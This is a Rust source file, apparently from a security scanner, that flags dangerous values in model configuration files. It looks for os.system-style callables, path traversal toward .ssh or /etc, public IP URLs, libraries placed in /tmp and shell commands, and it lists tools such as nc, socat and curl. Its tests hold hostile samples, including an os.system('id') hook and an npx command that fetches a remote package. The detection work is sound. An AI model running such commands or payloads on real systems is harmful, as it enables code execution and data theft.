//! What a value may be whatever its key: a function that runs commands, a program, a command, an address without a name,
//! a path that leads out. Loaders take code from more keys than anybody lists; what a value *is* tells it as well.

use super::{Act, Level, MAX_SAID, Reader, Said};
use crate::pickle::Effect;
use crate::python;

/// Values of one file that are read as programs.
const MAX_READ: usize = 64;
/// Letters of a program.
const MAX_PROGRAM: usize = 16_000;

impl Reader {
    pub(super) fn anywhere(&mut self, near: &str, text: &str, before: Option<&str>, at: u64) {
        if text.len() < 3 || text.len() > MAX_PROGRAM || self.of_words(near) {
            return;
        }
        if let Some(path) = python::names_power(text) {
            self.power(&path, at);
        }
        if let Some(before) = before
            && let Some(path) = python::names_power(&format!("{before}.{text}"))
        {
            self.power(&path, at);
        }
        if let Some(climbs) = climbs_to(text) {
            self.tell_path(climbs, at);
        } else if bare(text) || odd_library(text) {
            self.tell_path(text, at);
        }
        let known = self.config.nodes.iter().chain(&self.config.programs).any(|said| said.offset == at);
        if self.config.nodes.len() < MAX_READ && !known && is_program(text) {
            let (path, text) = (self.path(), text.to_owned());
            self.config.nodes.push(Said { path, text, offset: at });
        }
        if is_command(text) && self.config.commands.len() < super::MAX_COMMANDS {
            let (path, text) = (self.path(), text.to_owned());
            self.config.commands.push(Said { path, text, offset: at });
        }
    }

    /// A mapping that has a module under one key and a function of it under another, or a command and its arguments.
    pub(super) fn together(&mut self, level: &Level, at: u64) {
        if level.list {
            return;
        }
        let of = |keys: &[&str]| {
            level.values.iter().find_map(|value| {
                let (key, value) = value.split_once('=')?;
                keys.contains(&key).then(|| value.trim_matches('"'))
            })
        };
        let module = of(&["module", "mod", "package", "library", "import", "module_name"]);
        let name =
            of(&["function", "func", "fn", "name", "attr", "method", "callable", "class", "function_name"]);
        if let (Some(module), Some(name)) = (module, name)
            && let Some(path) = python::names_power(&format!("{module}.{name}"))
        {
            self.power(&path, at);
        }
        if let Some(program) = of(&["command", "cmd", "program", "runtimeExecutable"])
            && !level.given.is_empty()
            && self.config.commands.len() < super::MAX_COMMANDS
        {
            let (path, text) = (self.path(), format!("{program} {}", level.given));
            self.config.commands.push(Said { path, text, offset: at });
        }
    }

    fn power(&mut self, path: &str, at: u64) {
        let known = self.config.items.iter().any(|item| item.offset == at && item.act == Act::Calls);
        if !known {
            self.item(Act::Calls, path, Effect::Executes, at);
        }
    }

    fn tell_path(&mut self, text: &str, at: u64) {
        if self.config.paths.len() < MAX_SAID && !self.config.paths.iter().any(|said| said.offset == at) {
            let (path, text) = (self.path(), text.chars().filter(|c| !c.is_control()).take(200).collect());
            self.config.paths.push(Said { path, text, offset: at });
        }
    }

    /// Whether a value stands among words for people, rows of data or what a tokenizer knows.
    fn of_words(&self, near: &str) -> bool {
        const WORDS: [&str; 23] = [
            "code",
            "content",
            "text",
            "prompt",
            "description",
            "answer",
            "question",
            "output",
            "input",
            "instruction",
            "completion",
            "response",
            "title",
            "message",
            "comment",
            "summary",
            "help",
            "example",
            "note",
            "license",
            "chosen",
            "rejected",
            "reason",
        ];
        const TABLES: [&str; 15] = [
            "vocab",
            "merges",
            "added_tokens",
            "added_tokens_decoder",
            "id2label",
            "label2id",
            "word_index",
            "banned-api",
            "outputs",
            "ignore",
            "deny",
            "denylist",
            "blacklist",
            "forbidden",
            "rules",
        ];
        let listed = self.levels.first().is_none_or(|level| level.list) && self.levels.len() > 1;
        let near = near.to_ascii_lowercase();
        listed
            || WORDS.iter().any(|word| near.contains(word))
            || TABLES.contains(&near.as_str())
            || self.levels.iter().any(|level| TABLES.contains(&level.key.as_str()))
    }
}

/// A path that climbs, to a place where it lets somebody in or tells what nobody should know.
fn climbs_to(text: &str) -> Option<&str> {
    const PLACES: [&str; 9] =
        ["etc/", "root/", ".ssh/", "proc/", "var/spool/", ".aws/", ".bashrc", "usr/lib/", "site-packages/"];
    let rest = text.trim_start_matches("file://").trim_start_matches("./");
    let up = rest.split(['/', '\\']).filter(|part| *part == "..").count();
    let climbs = up >= 2 && !text.contains(char::is_whitespace) && text.len() < 300;
    (climbs && PLACES.iter().any(|place| text.contains(place))).then_some(text)
}

/// An address of a machine without a name, outside of what a machine has around it.
fn bare(text: &str) -> bool {
    const SCHEMES: [&str; 8] = ["http", "https", "ftp", "ws", "wss", "tcp", "git+http", "git+https"];
    let Some((scheme, rest)) = text.split_once("://") else { return false };
    if !SCHEMES.contains(&scheme) || text.contains(char::is_whitespace) {
        return false;
    }
    let host = rest.split(['/', ':', '?']).next().unwrap_or("");
    let host = host.rsplit('@').next().unwrap_or(host);
    let parts: Vec<Option<u8>> = host.split('.').map(|part| part.parse().ok()).collect();
    matches!(parts[..], [Some(first), Some(second), Some(_), Some(_)]
        if !matches!(first, 0 | 10 | 127 | 224..)
            && (first, second) != (192, 168)
            && (first, second) != (169, 254)
            && !(first == 100 && (64..128).contains(&second))
            && !(first == 172 && (16..32).contains(&second)))
}

/// A library of machine code in a place where everybody may write.
fn odd_library(text: &str) -> bool {
    [".so", ".dylib", ".dll"].iter().any(|end| text.ends_with(end))
        && ["/tmp/", "/dev/shm/", "/var/tmp/"].iter().any(|place| text.starts_with(place))
}

/// Whether a text is a program of Python that reaches for the machine.
fn is_program(text: &str) -> bool {
    const REACHES: [&str; 14] = [
        "__import__(",
        "os.system(",
        "os.popen(",
        "subprocess",
        "exec(",
        "eval(",
        "importlib",
        "__builtins__",
        "__subclasses__",
        "pty.spawn(",
        "socket.",
        "urlopen(",
        "os.exec",
        "os.spawn",
    ];
    const BEGINS: [&str; 7] = ["import ", "from ", "def ", "class ", "lambda", "@", "async def "];
    let start = text.trim_start().trim_start_matches('(');
    let begins = BEGINS.iter().any(|word| start.starts_with(word)) || text.contains("\nimport ");
    let expression = text.len() < 600
        && ["__import__(", "exec(", "eval(", "os.system(", "os.popen(", "subprocess.", "getattr(__import__"]
            .iter()
            .any(|word| start.starts_with(word));
    text.contains('(') && (begins || expression) && REACHES.iter().any(|word| text.contains(word))
}

/// Whether a text is nothing but a command that does more than start a program.
fn is_command(text: &str) -> bool {
    const PROGRAMS: [&str; 34] = [
        "curl",
        "wget",
        "sh",
        "bash",
        "zsh",
        "dash",
        "/bin/sh",
        "/bin/bash",
        "/usr/bin/env",
        "env",
        "eval",
        "exec",
        "nohup",
        "setsid",
        "echo",
        "printf",
        "base64",
        "python",
        "python3",
        "perl",
        "ruby",
        "node",
        "php",
        "nc",
        "ncat",
        "socat",
        "openssl",
        "powershell",
        "cmd",
        "cmd.exe",
        "busybox",
        "sudo",
        "npx",
        "pip",
    ];
    let acts =
        text.contains(['|', '$', '`', '>', '<', ';']) || text.contains("http://") || text.contains(" -e ");
    let start = text.trim_start_matches(['(', '{', '!', '@', '-', ' ']);
    let first = start.split([' ', '\n', '\t']).next().unwrap_or("");
    text.len() < 4_000 && acts && text.contains(' ') && (PROGRAMS.contains(&first) || start.starts_with("$("))
}

#[cfg(test)]
mod tests {
    use mantlet_vocab::MemorySource;

    use super::super::{Config, json, lines, toml, yaml};
    use crate::pickle::Effects;

    fn read(text: &str) -> Config {
        json(&MemorySource::new(text.as_bytes()), Effects::default())
    }

    #[test]
    fn values_are_judged_whatever_their_key() {
        for hostile in [
            r#"{"logits": ["os:system"]}"#,
            r#"{"a": {"source": "subprocess.getoutput"}}"#,
            r#"{"custom": {"module": "os", "function": "system"}}"#,
            r#"{"pair": ["os", "popen"]}"#,
        ] {
            assert_eq!(read(hostile).items.len(), 1, "{hostile}");
        }
        for plain in [
            r#"{"act": "torch.nn.functional.relu"}"#,
            r#"{"banned-api": ["os.system"]}"#,
            r#"[{"code": "os.system"}]"#,
            r#"{"pair": ["os", "path"]}"#,
        ] {
            assert_eq!(read(plain).items.len(), 0, "{plain}");
        }
        assert_eq!(read(r#"{"path": "../../../../root/.ssh/x"}"#).paths.len(), 1);
        assert_eq!(read(r#"{"path": "../../data/x.csv"}"#).paths.len(), 0);
        assert_eq!(read(r#"{"base": "http://198.51.100.9/a"}"#).paths.len(), 1);
        assert_eq!(read(r#"{"base": "http://192.168.1.9/a"}"#).paths.len(), 0);
        assert_eq!(read(r#"{"hook": "import os\nos.system('id')"}"#).nodes.len(), 1);
        assert_eq!(read(r#"{"hook": "import of goods (and subprocesses)"}"#).nodes.len(), 1);
        let read = read(r#"{"a": {"command": "npx", "args": ["-y", "http://x.example/a.tgz"]}}"#);
        assert!(read.commands.iter().any(|said| said.text == "npx -y http://x.example/a.tgz"));
    }

    #[test]
    fn settings_of_other_forms_are_read_as_configurations() {
        let items = |text: &str| lines(text, Effects::default()).items.len();
        assert_eq!(items("[handlers]\nfn = os.system\n"), 1);
        assert_eq!(items("run.fn = @os.system\n"), 1);
        assert_eq!(items("# fn = os.system\nfn = os.path.join\n"), 0);
        assert_eq!(toml("[a.b]\nhook = \"os.system\"\n", Effects::default()).items.len(), 1);
        assert_eq!(toml("a = [1, 2]\nb = \"os.getcwd\"\n", Effects::default()).items.len(), 0);
        assert_eq!(yaml("a:\n  b: os.system\n", Effects::default()).items.len(), 1);
        assert_eq!(lines("url: http://198.51.100.9/s\n", Effects::default()).paths.len(), 1);
    }
}
